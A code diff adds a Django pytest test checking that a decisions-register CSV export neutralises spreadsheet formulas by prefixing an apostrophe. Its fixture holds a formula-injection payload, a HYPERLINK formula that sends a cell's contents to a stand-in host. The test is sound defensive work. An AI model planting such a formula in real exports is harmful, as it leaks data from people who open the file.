@@ -3,12 +3,16 @@
 Every GET parameter of every list page (found with `grep -rn request.GET`) is fuzzed with
 values a person, a crawler or an attacker might send, as the people who may see the page."""
 
+import csv
+import io
 from datetime import date
 
 import pytest
 from django.test import Client
 
 from meetings.tests.factories import schedule
+from minutes.models import FollowUpAction
+from minutes.tests.test_register import minutes_with_actions
 
 pytestmark = pytest.mark.django_db
 
@@ -125,3 +129,32 @@ def test_a_search_with_a_nul_byte_is_ignored_and_the_other_filters_still_apply(
     assert response.context["q"] == ""
     assert response.context["selected_forum"] == "samarbejdsforum"
     assert {m.forum.slug for m in response.context["object_list"]} == {"samarbejdsforum"}
+
+
+# --- Spreadsheet exports ------------------------------------------------------------------
+
+
+def test_the_decisions_register_csv_exports_formulas_as_text(
+    forums, secretariat_user, secretariat_client, settings, tmp_path
+):
+    settings.PRIVATE_MEDIA_ROOT = str(tmp_path)
+    hyperlink = '=HYPERLINK("http://x.example/?d="&A2;"Klik")'
+    phone = "+45 33 66 33 66 kontaktes"
+    minutes_with_actions(
+        "samarbejdsforum",
+        date(2027, 3, 10),
+        secretariat_user,
+        "@Beslutning",
+        [
+            (hyperlink, "BIF", date(2027, 4, 30), FollowUpAction.Status.OPEN),
+            (phone, "TMF", date(2027, 6, 30), FollowUpAction.Status.OPEN),
+        ],
+    )
+
+    response = secretariat_client.get("/beslutninger/eksport.csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    actions = {row[4] for row in rows[1:]}
+    assert actions == {"'" + hyperlink, "'" + phone}
+    assert {row[3] for row in rows[1:]} == {"'@Beslutning"}
+    assert FollowUpAction.objects.filter(what=hyperlink).exists()  # stored as typed
